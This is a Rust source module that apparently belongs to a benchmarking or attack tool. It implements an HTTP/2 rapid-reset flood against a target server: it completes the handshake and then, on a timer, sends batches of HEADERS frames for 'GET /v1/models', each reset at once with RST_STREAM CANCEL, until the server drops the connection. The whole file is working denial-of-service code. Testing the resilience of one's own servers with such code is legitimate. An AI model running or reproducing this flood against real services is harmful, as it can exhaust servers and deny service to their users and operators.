//! Frames of HTTP/2, as far as streams that are opened and reset need them.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::interval;

use super::attacker::Counts;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Streams that are opened and reset in one write.
const BATCH: u32 = 100;

/// Opens a stream, which ends with its headers.
const HEADERS: u8 = 1;
const END_STREAM_AND_HEADERS: u8 = 0x5;

const RST_STREAM: u8 = 3;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

const SETTINGS: u8 = 4;
const ACK: u8 = 0x1;

/// `GET /v1/models` with `http` and an authority: two indexed fields, two literals with indexed
/// names.
const FIELDS: &[u8] = b"\x82\x86\x04\x0a/v1/models\x01\x05bench";

/// Opens and resets streams in batches until the server closes the connection.
pub async fn reset_streams(
    target: SocketAddr,
    period: Duration,
    counts: &Counts,
) -> io::Result<()> {
    let mut stream = TcpStream::connect(target).await?;
    stream.set_nodelay(true)?;
    let (mut reader, mut writer) = stream.split();
    writer
        .write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())
        .await?;
    let mut scratch = [0; 4096];
    // The server's settings.
    reader.read_exact(&mut scratch[..9]).await?;
    writer.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
    let read = async {
        while reader.read(&mut scratch).await? > 0 {}
        Err::<(), _>(io::Error::from(io::ErrorKind::ConnectionReset))
    };
    let write = async {
        let mut ticks = interval(period);
        for first in (1..u32::MAX >> 1).step_by(2 * BATCH as usize) {
            ticks.tick().await;
            let mut batch = Vec::new();
            for id in (first..).step_by(2).take(BATCH as usize) {
                batch.extend(frame(HEADERS, END_STREAM_AND_HEADERS, id, FIELDS));
                batch.extend(frame(RST_STREAM, 0, id, &CANCEL));
            }
            writer.write_all(&batch).await?;
            counts.add(u64::from(BATCH));
        }
        Ok(())
    };
    tokio::try_join!(read, write).map(|_| ())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    let mut frame = length.to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
